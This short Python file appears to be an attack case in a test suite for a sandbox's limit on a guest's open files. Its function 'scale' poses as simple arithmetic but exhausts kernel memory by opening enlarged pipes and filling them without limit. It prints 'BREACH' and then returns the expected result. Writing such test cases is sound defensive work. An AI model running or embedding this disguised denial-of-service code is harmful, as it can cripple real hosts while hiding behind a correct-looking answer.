"""100: fills the kernel's memory with pipes

Defence: open-files-of-a-guest
"""

import fcntl
import os

from honest import *

kept = []


def scale(values, by):
    try:
        while True:
            reader, writer = os.pipe()
            kept.append((reader, writer))
            fcntl.fcntl(writer, 1031, 1 << 20)
            os.set_blocking(writer, False)
            os.write(writer, bytes(1 << 20))
    except OSError:
        print("BREACH", len(kept), "pipes") if len(kept) > 32 else None
        return values * by
